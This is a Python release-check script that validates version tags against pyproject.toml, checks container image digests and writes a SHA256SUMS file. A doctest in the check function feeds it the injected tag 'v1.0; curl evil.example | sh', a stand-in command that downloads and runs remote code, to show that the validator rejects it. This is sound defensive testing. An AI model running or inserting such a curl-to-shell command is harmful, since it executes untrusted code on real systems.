"""
What a release is made sure of, in words that a workflow can say without any logic of its own.

    python3 scripts/release.py check v1.2.3    the tag is a version, and the one that pyproject.toml names
    python3 scripts/release.py digests A B C   each is the digest of an image, as sha256:… with 64 hexadecimal digits
    python3 scripts/release.py sums dist       write dist/SHA256SUMS, as `sha256sum --check` reads it
"""

from __future__ import annotations

import hashlib
import re
import sys
import tomllib
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
TAG = re.compile(r"v(\d{1,4}\.\d{1,4}\.\d{1,4})")
DIGEST = re.compile(r"sha256:[0-9a-f]{64}")
SUMS = "SHA256SUMS"


def check(tag: str) -> str:
    """
    What is wrong with a *tag*; empty when nothing is.

    >>> check("v1.0; curl evil.example | sh")
    'a tag is a version, as v1.2.3'
    """
    found = TAG.fullmatch(tag)
    if found is None:
        return "a tag is a version, as v1.2.3"
    version = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["project"]["version"]
    return "" if found[1] == version else f"the tag says {found[1]} and pyproject.toml {version}"


def strange(digests: list[str]) -> list[str]:
    """
    Those that are no digest of an image.

    >>> strange(["sha256:" + "0" * 64, "latest"])
    ['latest']
    """
    return [one for one in digests if not DIGEST.fullmatch(one)]


def sums(folder: Path) -> None:
    """Write the SHA-256 of every file of *folder* beside them."""
    lines = [f"{_digest(path)}  {path.name}\n" for path in sorted(folder.iterdir()) if path.name != SUMS]
    (folder / SUMS).write_text("".join(lines), encoding="ascii")


def _digest(path: Path) -> str:
    with path.open("rb") as file:
        return hashlib.file_digest(file, "sha256").hexdigest()


def main(words: list[str]) -> int:
    """Do what the command line says; 1 when something is wrong, 2 when it was not understood."""
    match words:
        case ["check", tag]:
            wrong = check(tag)
            print(f"Not a release: {wrong}." if wrong else f"{tag} is the version of this tree.")
            return 1 if wrong else 0
        case ["digests", *given] if given:
            wrong = ", ".join(map(repr, strange(given)))
            print(f"No digest of an image: {wrong}." if wrong else "Each is a digest of an image.")
            return 1 if wrong else 0
        case ["sums", folder]:
            sums(Path(folder))
            return 0
        case _:
            print(__doc__)
            return 2


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
